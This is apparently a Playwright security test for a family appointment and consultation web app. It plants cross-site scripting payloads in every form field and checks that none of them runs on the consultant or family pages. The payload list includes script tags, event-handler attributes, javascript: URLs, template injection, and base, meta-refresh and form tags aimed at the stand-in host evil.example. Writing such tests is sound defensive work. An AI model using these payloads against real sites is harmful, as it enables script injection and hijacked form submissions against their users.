// Proves that what a family or a visitor writes never runs as script on any page.
import type { Page } from "playwright/test";
import { expect, type Site, test } from "../support/browser/playwright-fixtures.ts";

const HIT = "document.documentElement.dataset.hit=1";
/** What somebody may write where a name, a note or a diagnosis is asked for. */
const WORDS = [
  `<script>${HIT}</script>`,
  `"><img src=x onerror=${HIT}>`,
  `</script><script>${HIT}</script>`,
  `<!--<script>${HIT}`,
  `</textarea><svg onload=${HIT}>`,
  `</title><script>${HIT}</script>`,
  `' autofocus onfocus='${HIT}`,
  `javascript:${HIT}`,
  `{{constructor.constructor('${HIT}')()}}`,
  `</dialog><iframe srcdoc="<script>parent.${HIT}</script>">`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `</form><form action=//evil.example><button autofocus>Save`,
  `]]>&lt;script&gt;%3Cscript%3E\u2028${HIT}\u202e\\u003cscript>`,
] as const;
const ALL = WORDS.join("\n");
const [, IMAGE, CLOSE, , , , FOCUS] = WORDS;
const PLANTED = "img[src=x], iframe, base, meta[http-equiv], form[action*=evil], [onfocus], [onload], [onerror]";

async function expectHarmless(page: Page, path: string) {
  await page.goto(path);
  await expect(page.locator("h1").first()).toBeAttached();
  const found = await page.evaluate(
    (planted) => [document.documentElement.dataset.hit ?? "", document.querySelectorAll(planted).length],
    PLANTED,
  );
  expect([path, ...found]).toEqual([path, "", 0]);
}

/** What a family and a visitor wrote wherever they can, and the consultant about them. */
async function writeEverywhere(site: Site) {
  const family = await site.family({ firstName: IMAGE, lastName: CLOSE });
  const story = { fullName: ALL.slice(0, 250), phoneNumber: FOCUS.slice(0, 50), emailAddress: family.email };
  const child = { childName: CLOSE, childAge: FOCUS, childBirthday: IMAGE, address: ALL, diagnosis: ALL };
  const more = { schoolName: IMAGE, otherConcerns: ALL, additionalNotes: ALL, howDidYouHear: ALL };
  expect((await family.post("/api/intake-forms", { ...story, ...child, ...more })).status).toBe(201);
  const visit = { title: `${CLOSE} - ${IMAGE}`, description: ALL, notes: `Client: ${IMAGE}\n${ALL}`, duration: 60 };
  const meetingLink = `https://meet.example/"><img src=x onerror=${HIT}>`.replaceAll(" ", "%20");
  const book = async (appointmentDate: string) => {
    const booked = await family.post("/api/appointments", { ...visit, appointmentDate, meetingLink });
    expect(booked.status).toBe(201);
    return booked.json.id as number;
  };
  const visits = await Promise.all(["2027-01-09T15:00:00Z", "2027-01-10T15:00:00Z"].map(book));
  const person = { firstName: IMAGE, lastName: CLOSE, email: "x@example.com", phone: FOCUS.slice(0, 50) };
  const asked = { ...person, serviceNeeds: ALL, message: ALL, consent: true };
  const request = await site.visitor().post("/api/consultation-requests", asked);
  expect(request.status).toBe(201);
  const draft = { ...visit, duration: "60", notes: "", date: "2027-01-16", intent: "times" };
  await family.form("/appointments/new", draft);
  const consultant = await site.consultant();
  expect((await consultant.form(`/families/${family.id}`, { text: ALL })).status).toBe(302);
  return { family, consultant, visits, requestId: request.json.id as number };
}

/** What the page asks or says by itself: dialogs, and requests to other sites. */
function watchPage(page: Page, origin: string): string[] {
  const alerts: string[] = [];
  page.on("dialog", (dialog) => alerts.push(dialog.message()));
  page.on("request", (each) => each.url().startsWith(origin) || alerts.push(each.url()));
  return alerts;
}

test("script in text from a family or a visitor never runs on any page that shows the text", async ({
  site,
  openAs,
}) => {
  test.slow();
  const { family, consultant, visits, requestId } = await writeEverywhere(site);
  const [consultantPage, familyPage] = [await openAs(consultant), await openAs(family)];
  const alerts = [watchPage(consultantPage, site.origin), watchPage(familyPage, site.origin)];
  const ofRequest = `/dashboard/requests/${requestId}`;
  const ofVisit = `/dashboard/appointments/${visits[0]}`;
  for (const path of [
    "/dashboard",
    `/dashboard?q=${encodeURIComponent(IMAGE)}`,
    ofVisit,
    `${ofVisit}/delete`,
    `${ofVisit}/reschedule`,
    `${ofVisit}/payment`,
    `${ofRequest}/schedule`,
    `${ofRequest}/delete`,
    "/dashboard/calendar",
    "/calendar?view=day&day=2027-01-09",
    "/requests",
    "/families",
    `/families/${family.id}`,
    `/families/${family.id}/appointments/new?title=${encodeURIComponent(CLOSE)}`,
  ])
    await expectHarmless(consultantPage, path);

  for (const path of [
    "/",
    "/dashboard",
    "/dashboard/settings",
    "/dashboard/intake-form",
    "/appointments",
    "/appointments/new",
    `/appointments?service=${encodeURIComponent(ALL)}`,
    `/appointments/intake-form?step=concerns`,
  ])
    await expectHarmless(familyPage, path);
  await expectHarmless(familyPage, `/appointments/${visits[1]}/cancel`);
  await familyPage.getByRole("button", { name: "Cancel appointment" }).click();
  await expect(familyPage.getByText("Appointment Cancelled").first()).toBeVisible();
  await expect(familyPage.locator("[data-toasts]")).toContainText(IMAGE);
  expect([await familyPage.locator(PLANTED).count(), alerts]).toEqual([0, [[], []]]);
});
